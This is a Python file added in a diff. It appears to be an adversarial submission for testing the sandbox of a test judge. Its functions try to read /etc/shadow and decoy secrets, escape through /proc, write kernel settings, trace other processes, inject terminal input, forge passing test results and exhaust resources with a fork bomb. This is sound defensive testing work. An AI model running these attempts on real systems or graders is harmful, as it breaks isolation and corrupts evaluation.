@@ -1,0 +1,558 @@
+"""A submission that attacks: each function tries one thing and returns what it got, for the judge's side to look at.
+
+Without a sandbox some of these run as well, to see that they are attacks at all. So whatever they write to or signal
+is a decoy that the test made for them; what could do harm runs only where process 1 is bubblewrap's; and nothing at
+all is tried as root.
+"""
+
+import contextlib
+import ctypes
+import errno
+import fcntl
+import json
+import os
+import signal
+import socket
+import struct
+import sys
+import time
+
+DECOYS = {}
+libc = ctypes.CDLL(None, use_errno=True)
+
+
+def call(number, *arguments):
+    """A system call by its number on x86-64. Returns 0 for success, else the name of the error."""
+    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
+    if libc.syscall(ctypes.c_long(number), *words) >= 0:
+        return 0
+    return errno.errorcode.get(ctypes.get_errno(), "?")
+
+
+def tried(function, *arguments):
+    try:
+        got = function(*arguments)
+        return {"got": got if isinstance(got, (int, str, list, dict, bool, type(None))) else True}
+    except Exception as error:
+        return {"error": (getattr(error, "errno", None) and errno.errorcode.get(error.errno)) or type(error).__name__}
+
+
+def text(path, length=200):
+    with open(path, errors="replace") as file:
+        return file.read()[:length]
+
+
+def write(path, mode="a"):
+    with open(path, mode) as file:
+        file.write("x")
+    return True
+
+
+def connect(family, address, kind=socket.SOCK_STREAM):
+    with socket.socket(family, kind) as s:
+        s.settimeout(1)
+        s.connect(address)
+        s.send(b"stolen")
+    return True
+
+
+def in_child(function):
+    """What `function` returns in a child, so that this process stays what it is."""
+    reading, writing = os.pipe()
+    child = os.fork()
+    if child == 0:
+        try:
+            os.write(writing, json.dumps(tried(function)).encode())
+        finally:
+            os._exit(0)
+    os.close(writing)
+    data = b""
+    while block := os.read(reading, 4096):
+        data += block
+    os.close(reading)
+    os.waitpid(child, 0)
+    return json.loads(data or b"{}")
+
+
+def inside_only(function):
+    """Not to be tried unless it is certain that it can only hit the sandbox."""
+
+    def guarded():
+        if text("/proc/1/comm").strip() != "bwrap":
+            return "not in a sandbox"
+        return function()
+
+    return guarded
+
+
+# -- files
+
+
+def read_server_data():
+    return tried(text, DECOYS["secret"])
+
+
+def read_tests():
+    return tried(text, DECOYS["tests"])
+
+
+def read_system_accounts():
+    return [tried(text, path) for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname")]
+
+
+def list_homes():
+    return [tried(os.listdir, path) for path in (DECOYS["home"], "/root", "/home", "/var", "/etc/ssh", "/run")]
+
+
+def look_beside_the_submission():
+    return tried(os.listdir, os.path.dirname(os.getcwd()))
+
+
+def write_outside():
+    return tried(write, DECOYS["writable"])
+
+
+def write_to_the_submission():
+    return tried(write, "neighbours-can-read-this", "w")
+
+
+@inside_only
+def write_to_the_system():
+    return [tried(write, f"{place}/subcli-attack", "w") for place in ("", "/usr", "/dev", "/proc", "/etc", "/bin")]
+
+
+def follow_a_symlink():
+    link = f"/tmp/subcli-link-{os.getpid()}"
+    os.symlink(DECOYS["secret"], link)
+    got = tried(text, link)
+    os.unlink(link)
+    return got
+
+
+def make_a_hard_link():
+    name = os.path.join(os.path.dirname(DECOYS["secret"]), "hard")
+    return tried(os.link, DECOYS["secret"], name)
+
+
+def climb_through_proc():
+    return [tried(text, f"/proc/{pid}/root{DECOYS['secret']}") for pid in (1, os.getppid())]
+
+
+@inside_only
+def write_kernel_settings():
+    return [
+        tried(write, path)
+        for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/self/oom_score_adj")
+    ]
+
+
+@inside_only
+def write_to_the_first_process():
+    return tried(lambda: os.close(os.open("/proc/1/mem", os.O_RDWR)))
+
+
+def open_devices():
+    return [
+        tried(lambda p=p: os.close(os.open(p, os.O_RDONLY)))
+        for p in ("/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/kvm", "/dev/fuse")
+    ]
+
+
+def make_a_device():
+    return tried(os.mknod, "/tmp/subcli-disk", 0o600 | 0o060000, os.makedev(254, 0))
+
+
+def open_by_handle():
+    return [call(303, -100, b"/", None, None, 0), call(304, -1, None, 0)]
+
+
+# -- network
+
+
+def connect_tcp():
+    return tried(connect, socket.AF_INET, ("127.0.0.1", DECOYS["port"]))
+
+
+def send_udp():
+    def send():
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.sendto(b"stolen", ("127.0.0.1", DECOYS["udp"]))
+        return True
+
+    return tried(send)
+
+
+def ask_dns():
+    return tried(socket.gethostbyname, "example.com")
+
+
+def connect_abstract():
+    return tried(connect, socket.AF_UNIX, "\0" + DECOYS["abstract"])
+
+
+def connect_unix():
+    return tried(connect, socket.AF_UNIX, DECOYS["unix"])
+
+
+def interfaces():
+    return tried(lambda: [name for _, name in socket.if_nameindex()])
+
+
+def odd_sockets():
+    return [
+        tried(lambda f=f, k=k: socket.socket(f, k).close()) for f, k in ((17, 3), (40, 1), (38, 5), (2, 3), (16, 3))
+    ][:3]
+
+
+# -- processes
+
+
+def environment():
+    return {"names": sorted(os.environ), "file": text("/proc/self/environ")}
+
+
+def see_processes():
+    names = [name for name in os.listdir("/proc") if name.isdigit()]
+    return {"count": len(names), "victim": tried(text, f"/proc/{DECOYS['victim']}/environ")}
+
+
+def signal_others():
+    return tried(os.kill, DECOYS["victim"], signal.SIGUSR1)
+
+
+def trace():
+    def attach():
+        child = os.fork()
+        if child == 0:
+            time.sleep(2)
+            os._exit(0)
+        result = call(101, 16, child, 0, 0)
+        if result == 0:
+            os.waitpid(child, 0)
+        os.kill(child, signal.SIGKILL)
+        os.waitpid(child, 0)
+        return result
+
+    return attach()
+
+
+def read_memory_of_others():
+    buffer = ctypes.create_string_buffer(8)
+    vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
+    return call(310, os.getpid(), vector, 1, vector, 1, 0)
+
+
+def descriptors():
+    found = {}
+    for name in os.listdir("/proc/self/fd"):
+        with contextlib.suppress(OSError):
+            found[name] = os.readlink(f"/proc/self/fd/{name}")
+    return found
+
+
+@inside_only
+def forge_results():
+    line = json.dumps(
+        {"record": "finished", "id": "x", "name": "FORGED", "type": "functional", "status": "passed", "duration_ms": 0}
+    )
+    written = 0
+    for pid in ("self", os.getppid(), 1):
+        for fd in range(3, 64):
+            try:
+                handle = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
+                os.write(handle, line.encode() + b"\n")
+                os.close(handle)
+            except OSError:
+                continue
+    for fd in range(5, 64):
+        try:
+            os.write(fd, line.encode() + b"\n")
+            written += 1
+        except OSError:
+            continue
+    return written
+
+
+def become_root():
+    privileges = text("/proc/self/status", 4_000).count("NoNewPrivs:\t1")
+    return [in_child(lambda: os.setuid(0)), in_child(lambda: os.setgroups([0])), privileges]
+
+
+def capabilities():
+    status = dict(line.split(":", 1) for line in text("/proc/self/status", 4_000).splitlines())
+    return [status[name].strip() for name in ("CapEff", "CapPrm", "CapBnd", "NoNewPrivs", "Seccomp")]
+
+
+# -- the kernel
+
+
+def namespaces():
+    flags = (0x10000000, 0x00020000, 0x40000000, 0x20000000)
+    return [in_child(lambda f=f: call(272, f)) for f in flags]
+
+
+def namespaces_by_clone():
+    def clone():
+        result = libc.syscall(ctypes.c_long(56), ctypes.c_long(0x10000000 | signal.SIGCHLD), None, None, None, None)
+        if result == 0:
+            os._exit(0)
+        return 0 if result > 0 else errno.errorcode[ctypes.get_errno()]
+
+    return [clone(), call(435, (ctypes.c_long * 11)(0x10000000), 88)]
+
+
+def enter_a_namespace():
+    return tried(lambda: call(308, os.open("/proc/1/ns/user", os.O_RDONLY), 0))
+
+
+@inside_only
+def mount():
+    # A directory of its own: where it worked, it would cover nothing else.
+    here = b"/tmp/subcli-point"
+    os.mkdir(here)
+    return in_child(
+        lambda: [call(165, b"none", here, b"tmpfs", 0, None), call(430, b"tmpfs", 0), call(155, here, here)]
+    )
+
+
+def keyrings():
+    return [
+        call(248, b"user", b"subcli-attack", b"secret", 6, -4),
+        call(250, 0, -3, 1),
+        call(249, b"user", b"subcli-attack", None, -4),
+    ]
+
+
+@inside_only
+def exotic_calls():
+    numbers = {
+        "bpf": 321,
+        "userfaultfd": 323,
+        "io_uring_setup": 425,
+        "perf_event_open": 298,
+        "kexec_load": 246,
+        "init_module": 175,
+        "syslog": 103,
+        "memfd_create": 319,
+        "shmget": 29,
+        "msgget": 68,
+        "sysinfo": 99,
+        "inotify_init1": 294,
+        "pidfd_getfd": 438,
+        "kcmp": 312,
+        "newest": 999,
+    }
+    block = ctypes.create_string_buffer(256)
+    return {name: call(number, block, 0, 0, 0, 0) for name, number in numbers.items()}
+
+
+@inside_only
+def type_into_the_terminal():
+    master = None
+    for path in ("/dev/tty", "/dev/ptmx"):
+        try:
+            master = os.open(path, os.O_RDWR | os.O_NOCTTY)
+        except OSError:
+            continue
+    if master is None:
+        return "no terminal"
+    try:
+        fcntl.ioctl(master, 0x5412, b"x")
+        return "typed"
+    except OSError as error:
+        return errno.errorcode[error.errno]
+
+
+def change_the_personality():
+    return in_child(lambda: call(135, 0x0400000))
+
+
+@inside_only
+def shared_memory_stays():
+    return call(29, 0x5EC2E7, 4096, 0o1666)
+
+
+# -- other submissions, and nodes of the same one
+
+
+def loads():
+    return {
+        "loadavg": tried(lambda: text("/proc/loadavg").split()[0]),
+        "stat": text("/proc/stat").split("\n")[0],
+        "uptime": tried(text, "/proc/uptime"),
+        "locks": tried(text, "/proc/locks"),
+        "pressure": tried(os.listdir, "/proc/pressure"),
+        "sysinfo": call(99, ctypes.create_string_buffer(256)),
+    }
+
+
+def leave_a_message():
+    for place in ("/tmp", "/dev/shm"):
+        with open(f"{place}/subcli-message", "w") as file:
+            file.write("psst")
+    with open(sys.executable) as shared:
+        lock = tried(lambda: fcntl.flock(shared, fcntl.LOCK_EX | fcntl.LOCK_NB))
+        record = tried(lambda: fcntl.fcntl(shared, fcntl.F_GETLK, struct.pack("hhqqi", fcntl.F_WRLCK, 0, 0, 0, 0)))
+        lease = tried(lambda: fcntl.fcntl(shared, fcntl.F_SETLEASE, fcntl.F_RDLCK))
+    return {"lock": lock, "record": record, "lease": lease}
+
+
+def find_a_message():
+    return [os.path.exists(f"{place}/subcli-message") for place in ("/tmp", "/dev/shm")]
+
+
+def control_groups():
+    return [tried(os.listdir, "/sys/fs/cgroup"), tried(write, "/sys/fs/cgroup/cgroup.procs")]
+
+
+# -- too much of something; these end with the judge killing them
+
+
+@inside_only
+def fork_bomb():
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            time.sleep(0.001)
+
+
+@inside_only
+def threads_without_end():
+    import threading
+
+    started = 0
+    try:
+        for _ in range(20000):
+            threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
+            started += 1
+    except RuntimeError:
+        pass
+    return started
+
+
+@inside_only
+def daemons():
+    for _ in range(3):
+        if os.fork() == 0:
+            os.setsid()
+            if os.fork() == 0:
+                for fd in range(3):
+                    os.close(fd)
+                signal.signal(signal.SIGTERM, signal.SIG_IGN)
+                time.sleep(60)
+            os._exit(0)
+        os.wait()
+    return True
+
+
+@inside_only
+def fill_memory():
+    kept = []
+    while True:
+        kept.append(b"x" * 10_000_000)
+
+
+@inside_only
+def fill_memory_with_children():
+    for _ in range(6):
+        if os.fork() == 0:
+            kept = [b"x" * 1_000_000 for _ in range(50)]
+            time.sleep(20)
+            os._exit(len(kept) and 0)
+    time.sleep(20)
+
+
+def fill_place(place):
+    number = 0
+    while True:
+        number += 1
+        try:
+            with open(f"{place}/big-{number}", "wb") as file:
+                for _ in range(200):
+                    file.write(b"x" * 65_536)
+        except OSError as error:
+            if error.errno != errno.EFBIG:
+                return {"files": number, "error": errno.errorcode[error.errno]}
+
+
+@inside_only
+def fill_tmp():
+    return fill_place("/tmp")
+
+
+@inside_only
+def fill_shared_memory():
+    return fill_place("/dev/shm")
+
+
+@inside_only
+def use_up_inodes():
+    number = 0
+    while True:
+        number += 1
+        os.close(os.open(f"/tmp/empty-{number}", os.O_CREAT | os.O_WRONLY))
+
+
+def huge_output():
+    while True:
+        sys.stdout.write("x" * 100_000 + "\n")
+
+
+def output_without_newlines():
+    while True:
+        sys.stdout.write("x" * 100_000)
+        sys.stdout.flush()
+
+
+def huge_errors():
+    while True:
+        sys.stderr.write("x" * 100_000)
+
+
+def terminal_escapes():
+    sys.stderr.write("\x1b[2J\x1b]0;owned\x07\x1b[31m\u202e\u200b\x9b31m\n")
+    sys.stderr.flush()
+    return os._exit(3)
+
+
+def never_ends():
+    for number in range(1, 64):
+        with contextlib.suppress(OSError, ValueError):
+            signal.signal(number, signal.SIG_IGN)
+    while True:
+        time.sleep(1)
+
+
+def hangs_at_exit():
+    import atexit
+
+    atexit.register(never_ends)
+    sys.exit(0)
+
+
+@inside_only
+def kill_everything():
+    # Only ever run inside of a sandbox, where "everything" is itself.
+    os.kill(-1, signal.SIGKILL)
+
+
+def main():
+    global DECOYS
+    if os.geteuid() == 0:
+        sys.exit("not as root")
+    for line in sys.stdin:
+        message = json.loads(line)
+        body = message["body"]
+        if body["type"] == "init":
+            DECOYS = body["decoys"]
+            me, answer = body["node_id"], {"type": "init_ok"}
+        elif body["type"] == "attack":
+            answer = {"type": "attack_ok", "got": globals()[body["name"]]()}
+        else:
+            answer = {"type": body["type"] + "_ok"}
+        sys.stdout.write(json.dumps({"src": me, "dest": "judge", "body": answer}) + "\n")
+        sys.stdout.flush()
+
+
+main()
